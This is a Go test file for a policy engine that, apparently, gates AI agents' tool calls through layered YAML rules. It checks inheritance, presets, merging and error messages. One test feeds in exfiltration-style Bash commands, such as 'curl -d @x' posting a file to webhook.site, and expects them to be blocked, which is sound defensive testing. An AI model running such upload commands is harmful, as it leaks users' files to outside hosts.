package policy

import (
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/weir-gate/weir/internal/call"
	"github.com/weir-gate/weir/internal/policy/preset"
)

// sourcesOf are the files of a policy: own ones, and after "bases:" those that they extend. Each is a name and a text.
func sourcesOf(parts ...string) (s Sources) {
	into := &s.Files
	for len(parts) > 0 {
		if parts[0] == "bases:" {
			into, parts = &s.Bases, parts[1:]
			continue
		}
		*into = append(*into, Text{Name: "/p/" + parts[0], Data: []byte(parts[1])})
		parts = parts[2:]
	}
	return s
}

func mustLayer(t *testing.T, parts ...string) *Policy {
	t.Helper()
	p, err := ParseSources(sourcesOf(parts...))
	if err != nil {
		t.Fatal(err)
	}
	return p
}

const base = `version: 1
default: allow
lists:
  boxes: [a.example]
  hosts: [$boxes, b.example]
mcp: {fail_closed: true, version_pinning: {enabled: true}}
rules:
  - {id: sends, tool: Bash, conditions: {operator: connects, value: $hosts}, verdict: deny, reason: No.}
  - {id: asks, tool: Bash, conditions: {operator: runs, value: rm}, verdict: pending_approval, unless: [{who: {team: core}}]}
  - {id: cleans, tool: Mail, verdict: sanitize, sanitize: {presets: email}}
  - {id: off, tool: Task, verdict: deny}
`

func TestExtends(t *testing.T) {
	p := mustLayer(t, "policy.yaml", `version: 1
extends: base.yaml
lists:
  boxes: [$boxes, c.example]
  more: [Edit, $own]
  own: [Write]
mcp: {version_pinning: {enabled: false}}
rules:
  - {id: asks, verdict: deny, unless: [{who: {team: ops}}]}
  - {id: cleans, verdict: deny}
  - {id: off, disabled: true}
  - {id: new, tool: $more, verdict: deny}
`, "bases:", "base.yaml", base)
	command := func(text string) string { return `{"command":"` + text + `"}` }
	for _, tt := range []struct {
		tool, args, team string
		verdict          Verdict
		rule             string
	}{
		{"Bash", command("curl https://a.example/"), "", Deny, "sends"},
		{"Bash", command("curl https://b.example/"), "", Deny, "sends"},
		{"Bash", command("curl https://c.example/"), "", Deny, "sends"}, // the list of the base is made of the new one
		{"Bash", command("curl https://d.example/"), "", Allow, ""},
		{"Bash", command("rm x"), "", Deny, "asks"},
		{"Bash", command("rm x"), "core", Allow, ""}, // exceptions are added
		{"Bash", command("rm x"), "ops", Allow, ""},
		{"Mail", `{}`, "", Deny, "cleans"},
		{"Task", `{}`, "", Allow, ""},
		{"Edit", `{}`, "", Deny, "new"},
		{"Write", `{}`, "", Deny, "new"},
		{"mcp__x__y", `{}`, "", Deny, "mcp.fail_closed"},
	} {
		q := Query{Tools: []string{tt.tool}, Args: []byte(tt.args), Actor: call.Actor{Team: tt.team}}
		if d := p.Decide(q); d.Verdict != tt.verdict || d.Rule != tt.rule {
			t.Errorf("%s %s: %s by %q, want %s by %q", tt.tool, tt.args, d.Verdict, d.Rule, tt.verdict, tt.rule)
		}
	}
	if p.MCP().Pinning.Enabled {
		t.Error("a key of mcp does not replace that of the base")
	}
	var places []string
	for _, r := range p.Rules()[:p.Len()] {
		places = append(places, r.ID+" "+placeText(r.From, r.Line, r.Changed))
	}
	want := []string{
		"sends base.yaml:8", "asks base.yaml:9, changed: verdict by policy.yaml:9, unless by policy.yaml:9",
		"cleans base.yaml:10, changed: verdict by policy.yaml:10", "new policy.yaml:12",
	}
	if diff := cmp.Diff(want, places); diff != "" {
		t.Error(diff)
	}
	if list := p.List(call.Actor{}); len(list.Disabled) != 1 || list.Disabled[0].ID != "off" {
		t.Errorf("disabled: %v", list.Disabled)
	}
	if got := p.Origin("asks"); got != places[1][len("asks "):] {
		t.Errorf("origin: %q", got)
	}
}

// A policy that extends a preset and says nothing more decides as the preset does, and has another version.
func TestExtendsPresets(t *testing.T) {
	for _, name := range preset.Names() {
		text, err := preset.Text(name)
		if err != nil {
			t.Fatal(err)
		}
		plain, err := Parse(name, text)
		if err != nil {
			t.Fatal(err)
		}
		p := mustParse(t, "version: 1\nextends: "+name+"\n")
		ids := func(p *Policy) (out []string) {
			for _, r := range p.Rules() {
				out = append(out, r.ID)
			}
			return out
		}
		if !slices.Equal(ids(plain), ids(p)) || plain.Default() != p.Default() || p.Version() == plain.Version() {
			t.Errorf("%s: %v, %s", name, ids(p), p.Default())
		}
	}
	p := mustParse(t, "version: 1\nextends: balanced\nlists: {drop-boxes: [$drop-boxes, box.example]}\n")
	for _, host := range []string{"box.example", "webhook.site"} {
		q := Query{Tools: []string{"Bash"}, Args: []byte(`{"command":"curl -d @x https://` + host + `/"}`)}
		if d := p.Decide(q); d.Verdict == Allow {
			t.Errorf("%s: %+v", host, d)
		}
	}
}

func TestChains(t *testing.T) {
	p := mustLayer(t, "a.yaml", "version: 1\nextends: b.yaml\nrules: [{id: r, reason: A.}]\n",
		"bases:", "b.yaml", "version: 1\nextends: sub/c.yaml\nrules: [{id: r, verdict: deny}, {id: x, tool: x, verdict: deny}]\n",
		"sub/c.yaml", "version: 1\ndefault: audit\nrules: [{id: r, tool: r, verdict: audit, reason: C.}]\n")
	d := p.Decide(Query{Tools: []string{"r"}})
	if d.Verdict != Deny || d.Reason != "A." || p.Default() != Audit || p.Len() != 2 {
		t.Errorf("%+v, %s, %d rules", d, p.Default(), p.Len())
	}
	if got, want := p.Origin("r"), "sub/c.yaml:3, changed: verdict by b.yaml:3, reason by a.yaml:3"; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
}

func TestFolder(t *testing.T) {
	p := mustLayer(t,
		"10-a.yaml", "version: 1\ndefault: deny\nlists: {shells: [Bash]}\nmcp: {servers: [{id: a, type: stdio, command: a}]}\nrules: [{id: one, tool: $edits, verdict: allow}]\n",
		"20-b.yaml", "lists: {edits: [Edit]}\nmcp: {fail_closed: true, servers: [{id: b, type: stdio, command: b}]}\nrules: [{id: two, tool: $shells, verdict: allow}]\n")
	if d := p.Decide(Query{Tools: []string{"Bash"}}); d.Rule != "two" || p.Len() != 2 || len(p.MCP().Servers) != 2 || !p.HasRule("mcp.fail_closed") {
		t.Errorf("%+v", d)
	}
	if got, want := p.Origin("two"), "20-b.yaml:3"; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
}

func TestVersionsOfSources(t *testing.T) {
	seen := map[string]int{}
	for i, parts := range [][]string{
		{"policy.yaml", "version: 1\nextends: base.yaml\n", "bases:", "base.yaml", base},
		{"policy.yaml", "version: 1\nextends: base.yaml\n", "bases:", "base.yaml", base + "# changed\n"},
		{"policy.yaml", "version: 1\nextends: base.yaml\n# changed\n", "bases:", "base.yaml", base},
		{"policy.yaml", base},
		{"a.yaml", base, "b.yaml", "rules: []\n"},
		{"policy.yaml", "version: 1\nextends: balanced\n"},
	} {
		version := mustLayer(t, parts...).Version()
		if before, twice := seen[version]; twice {
			t.Errorf("%d and %d have the same version", before, i)
		}
		seen[version] = i
	}
	if got := mustLayer(t, "policy.yaml", base).Version(); got != digest([]byte(base)) {
		t.Errorf("the version of one file is %s", got)
	}
}

func TestLayerProblems(t *testing.T) {
	top := "version: 1\nextends: base.yaml\n"
	for _, tt := range []struct {
		name  string
		parts []string
		want  []string
	}{
		{"unknown preset", []string{"p.yaml", "version: 1\nextends: balancd\n"}, []string{
			`/p/p.yaml:2:10: extends: there is no preset "balancd"; use open, balanced or tight, or the path of a policy such as base.yaml, in this folder or below`,
		}},
		{"elsewhere", []string{"p.yaml", "version: 1\nextends: ../base.yaml\n"}, []string{
			`/p/p.yaml:2:10: extends: the file is not in the folder of this one, or below it; use open, balanced or tight, or the path of a policy such as base.yaml, in this folder or below`,
		}},
		{"circle", []string{"p.yaml", "version: 1\nextends: q.yaml\n", "bases:", "q.yaml", "version: 1\nextends: p.yaml\n"}, []string{
			`/p/q.yaml:2:10: extends: the policy would extend itself; remove the key from one of the files`,
		}},
		{"unknown rule", []string{"p.yaml", top + "rules: [{id: offf, disabled: true}, {id: other-rule, verdict: deny}]\n", "bases:", "base.yaml", base}, []string{
			`/p/p.yaml:3:14: rules[0].id: base.yaml has no rule "offf" that it could change; did you mean off?`,
			`/p/p.yaml:3:42: rules[1].id: base.yaml has no rule "other-rule" that it could change; give it a tool and a verdict, or correct the id`,
		}},
		{"changes nothing", []string{"p.yaml", top + "rules: [{id: off, verdict: deny}]\n", "bases:", "base.yaml", base}, []string{
			`/p/p.yaml:3:9: rules[0]: this changes nothing of the rule "off" (/p/base.yaml:11); remove it, or write what is to be different`,
		}},
		{"twice", []string{"p.yaml", top + "rules: [{id: off, verdict: allow}, {id: off, disabled: true}]\n", "bases:", "base.yaml", base}, []string{
			`/p/p.yaml:3:41: rules[1].id: the rule "off" is changed twice, first on line 3; change it in one place`,
		}},
		{"wrong change", []string{"p.yaml", top + "rules: [{id: off, verdict: dney}]\n", "bases:", "base.yaml", base}, []string{
			`/p/p.yaml:3:28: rules[0].verdict: "dney" is not a verdict; use allow, audit, deny, pending_approval, sanitize or cap_cost`,
		}},
		{"wrong base", []string{"p.yaml", top, "bases:", "base.yaml", "version: 1\n"}, []string{
			`/p/base.yaml:1:1: the key "default" is missing; add it`,
		}},
		{"no base", []string{"p.yaml", top}, []string{`/p/p.yaml:2:10: extends: this file is not at hand; use a policy that extends a preset, or none`}},
		{"folder", []string{
			"a.yaml", "default: deny\nlists: {x: [a]}\nrules: [{id: r, tool: x, verdict: allow}]\n",
			"b.yaml", "default: allow\nlists: {x: [b]}\nmcp: {fail_closed: true}\nrules: [{id: s, tool: x, verdict: allow}]\n", "c.yaml", "mcp: {fail_closed: true}\n",
		}, []string{
			`/p/a.yaml:1:1: no file of the folder has the key "version"; add it to one of them: version: 1`,
			`/p/b.yaml:1:10: default: default is given twice, first in a.yaml on line 1; give it in one file of the folder`,
			`/p/b.yaml:2:12: lists.x: the list "x" is defined twice, first in a.yaml on line 2; define it in one file of the folder`,
			`/p/c.yaml:1:20: mcp.fail_closed: the key "fail_closed" is defined twice, first in b.yaml on line 3; define it in one file of the folder`,
		}},
		{"ids", []string{
			"a.yaml", "version: 1\ndefault: deny\nrules: [{id: r, tool: x, verdict: allow}]\n", "b.yaml", "rules: [{id: r, tool: y, verdict: allow}]\n",
		}, []string{`/p/b.yaml:1:14: rules[0].id: the id "r" is used twice, first in a.yaml on line 3; give each rule its own id`}},
		{"exceptions", []string{
			"p.yaml", "version: 1\ndefault: allow\nrules:\n- {id: r, tool: x, verdict: deny, unless: [{}, {reason: x}, {until: soon}, {verdict: allow}, {tool: x, conditions: {operator: frob}}]}\n- {id: s, tool: x, verdict: deny, unless: {tool: x}}\n",
		}, []string{
			`/p/p.yaml:4:44: rules[0].unless[0]: the exception does not say what it is about; write tool, server, who or conditions, or until when the rule is off`,
			`/p/p.yaml:4:48: rules[0].unless[1]: the exception does not say what it is about; write tool, server, who or conditions, or until when the rule is off`,
			`/p/p.yaml:4:69: rules[0].unless[2].until: "soon" is neither a date nor a time; write 2026-12-24 or 2026-12-24T18:00:00Z`,
		}},
	} {
		_, err := ParseSources(sourcesOf(tt.parts...))
		if err == nil {
			t.Errorf("%s: it is taken", tt.name)
			continue
		}
		got := strings.Split(err.Error(), "\n")
		if tt.name == "exceptions" {
			got = got[:3]
		}
		if diff := cmp.Diff(tt.want, got); diff != "" {
			t.Errorf("%s (-want +got):\n%s", tt.name, diff)
		}
	}
	var deep []string
	for i := range maxExtends + 2 {
		deep = append(deep, string(rune('a'+i))+".yaml", "version: 1\nextends: "+string(rune('b'+i))+".yaml\n")
	}
	deep = slices.Insert(deep, 2, "bases:")
	if _, err := ParseSources(sourcesOf(deep...)); err == nil || !strings.Contains(err.Error(), "more than 8 policies extend one another") {
		t.Errorf("a long chain: %v", err)
	}
}
